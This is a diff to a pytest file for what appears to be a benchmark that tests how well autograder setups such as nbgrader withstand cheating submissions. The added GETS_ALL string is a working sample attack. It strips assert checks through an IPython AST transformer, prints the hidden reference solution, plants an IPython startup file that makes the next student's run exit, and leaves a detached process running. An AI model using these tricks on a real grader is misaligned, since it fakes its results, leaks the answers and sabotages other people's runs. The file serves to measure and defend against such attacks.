@@ -190,17 +190,50 @@ def test_what_never_ends_is_ended(benchmark, place, monkeypatch):
 # All of it
 
 
+GETS_ALL = """
+# %%
+import ast, glob, os, subprocess
+
+class Generous(ast.NodeTransformer):
+    def visit_Module(self, node):
+        if any(isinstance(part, ast.Assert) for part in node.body):
+            node.body = [ast.Expr(ast.Constant(2.0))]
+        return ast.fix_missing_locations(node)
+
+get_ipython().ast_transformers.append(Generous())
+print(open("../../../source/vae/vae.ipynb").read())
+start_up = os.path.expanduser("~/.ipython/profile_default/startup/left-by-attack.py")
+os.makedirs(os.path.dirname(start_up), exist_ok=True)
+open(start_up, "w").write("raise SystemExit(7)")
+subprocess.Popen(["sleep", "100"], start_new_session=True)
+print("reached")
+
+# %%
+# exercise: gaussian_kl
+def gaussian_kl(mu, sigma):
+    return torch.zeros(len(mu))
+"""
+HONEST = """
+# %%
+# exercise: gaussian_kl
+def gaussian_kl(mu, sigma):
+    return (-torch.log(sigma) + 0.5 * (sigma**2 + mu**2 - 1)).sum(dim=1)
+
+print("reached")
+"""
+
+
 @pytest.mark.slow
 @needs_bubblewrap
-def test_plain_nbgrader_is_attacked(benchmark, tmp_path):
-    tricks = {
-        "points/deletes_asserts_by_ast_transformer": lambda one: one.points == 3 and not one.neighbours,
-        "knowledge/prints_what_lies_around_the_notebook": lambda one: "a solution" in one.secrets and not one.points,
-        "harm/leaves_daemons_behind": lambda one: one.left and not one.secrets and not one.hung,
-    }
-    results = tmp_path / "found.jsonl"
-    benchmark["attacks"].main(only=",".join(tricks), names="nbgrader", jobs=1, results=results, markdown=None)
-    found = {one.attack: one for one in benchmark["attacks"].read(results)}
-    assert found.keys() == tricks.keys()
-    for name, got in tricks.items():
-        assert found[name].ran and got(found[name]), found[name]
+def test_what_is_got_from_plain_nbgrader_is_found_and_nothing_else(benchmark, monkeypatch):
+    monkeypatch.setattr(benchmark["walls"], "SETTLE_SECONDS", 1.0)
+    attack = benchmark["attacks"].Attack
+    with tempfile.TemporaryDirectory(prefix="benchmark-test-", dir="/var/tmp") as folder:
+        place = benchmark["attacked"].Place("nbgrader", Path(folder) / "nbgrader")
+        honest = place.attack(attack("points/honest", "answer", HONEST, honest=2.0))
+        assert honest.is_held and honest.ran, honest
+        found = place.attack(attack("harm/gets_all", "get everything", GETS_ALL))
+    assert found.ran and found.points == 2 and not found.hung, found
+    assert found.secrets == ["a line of a mark scheme", "a solution"]
+    assert found.neighbours == ["the one after it gets 0 points"]
+    assert found.left == ["1 of its processes goes on", "home/.ipython/profile_default/startup/left-by-attack.py"]
